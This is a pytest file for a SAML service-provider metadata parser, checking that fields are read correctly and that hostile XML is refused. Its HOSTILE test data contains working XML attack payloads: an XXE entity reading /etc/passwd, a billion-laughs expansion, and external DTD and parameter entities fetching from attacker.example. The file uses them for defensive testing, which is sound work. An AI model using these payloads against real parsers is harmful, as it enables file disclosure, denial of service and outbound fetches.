"""``sso.applications.sp_metadata``: a service provider's metadata is read into the fields of
``SAMLServiceProvider``, and hostile documents (XXE, entity expansion, oversize, the wrong
kind of document) are refused with a message, never expanded or fetched."""

from __future__ import annotations

import pytest

from sso.applications import sp_metadata
from sso.applications.sp_metadata import MetadataError
from tests.support.saml_metadata import certificate_base64, certificate_pem
from tests.support.saml_metadata import sp_metadata as document

MD = 'xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata"'


def test_reads_what_a_service_provider_publishes():
    parsed = sp_metadata.parse(
        document(acs=("https://sp.example.test/acs/b", "https://sp.example.test/acs/a"))
    )
    assert parsed.entity_id == "https://sp.example.test/saml"
    # HTTP-POST only, in index order (the HTTP-Redirect ACS of the document is left out).
    assert parsed.acs_urls == ["https://sp.example.test/acs/b", "https://sp.example.test/acs/a"]
    assert parsed.signing_certificate == certificate_pem("sp-signing.example.test")
    assert parsed.encryption_certificate == certificate_pem("sp-encryption.example.test")
    assert parsed.authn_requests_signed is True
    assert parsed.name_id_formats == ["urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"]


def test_a_key_without_use_serves_both_and_bytes_are_accepted():
    key = (
        "<md:KeyDescriptor><ds:KeyInfo><ds:X509Data><ds:X509Certificate>\n"
        f"{certificate_base64('both.example.test')}\n"
        "</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>"
    )
    text = document(signing=False, encryption=False, authn_requests_signed=False)
    text = text.replace('protocol">', 'protocol">' + key, 1)
    parsed = sp_metadata.parse(text.encode("utf-8"))
    assert parsed.signing_certificate == parsed.encryption_certificate
    assert parsed.signing_certificate == certificate_pem("both.example.test")
    assert parsed.authn_requests_signed is False


def test_without_certificates_the_fields_stay_empty():
    parsed = sp_metadata.parse(document(signing=False, encryption=False))
    assert parsed.signing_certificate == "" and parsed.encryption_certificate == ""


HOSTILE = {
    "external entity (XXE)": (
        '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<md:EntityDescriptor {MD} entityID="&x;"/>'
    ),
    "billion laughs": (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
        f'<md:EntityDescriptor {MD} entityID="&lol3;"/>'
    ),
    "external DTD": (
        '<?xml version="1.0"?><!DOCTYPE m SYSTEM "http://attacker.example/x.dtd">'
        f'<md:EntityDescriptor {MD} entityID="x"/>'
    ),
    "parameter entity": (
        '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'
        f'<md:EntityDescriptor {MD} entityID="x"/>'
    ),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_documents_with_a_doctype_are_refused(name):
    with pytest.raises(MetadataError, match="document type or entities"):
        sp_metadata.parse(HOSTILE[name])


def test_oversize_is_refused_before_parsing():
    big = document(extra="<!--" + "x" * sp_metadata.MAX_BYTES + "-->")
    with pytest.raises(MetadataError, match="larger than 256 KB"):
        sp_metadata.parse(big)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "empty"),
        ("not xml at all", "not well-formed"),
        ("<md:EntityDescriptor", "not well-formed"),
        ('<EntityDescriptor entityID="x"/>', "not a SAML 2.0 EntityDescriptor"),
        (f"<md:EntitiesDescriptor {MD}/>", "several entities"),
        (f"<md:EntityDescriptor {MD}/>", "no valid entityID"),
        (f'<md:EntityDescriptor {MD} entityID="x"/>', "no SAML 2.0 service provider"),
        (
            f'<md:EntityDescriptor {MD} entityID="x"><md:SPSSODescriptor '
            'protocolSupportEnumeration="urn:oasis:names:tc:SAML:1.1:protocol"/>'
            "</md:EntityDescriptor>",
            "no SAML 2.0 service provider",
        ),
    ],
)
def test_what_is_not_a_service_providers_metadata_is_refused(text, message):
    with pytest.raises(MetadataError, match=message):
        sp_metadata.parse(text)


def test_a_provider_without_an_http_post_acs_is_refused():
    text = document(acs=())
    with pytest.raises(MetadataError, match="HTTP-POST"):
        sp_metadata.parse(text)


def test_a_broken_certificate_is_refused():
    text = document().replace(certificate_base64("sp-signing.example.test"), "bm90IGEgY2VydA==")
    with pytest.raises(MetadataError, match="not a valid X.509 certificate"):
        sp_metadata.parse(text)


def test_pasted_pem_certificates():
    pem = certificate_pem()
    assert sp_metadata.pem_certificate("\n  " + pem + "\n") == pem
    for bad in ("", "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----", "証明書"):
        with pytest.raises(MetadataError):
            sp_metadata.pem_certificate(bad)
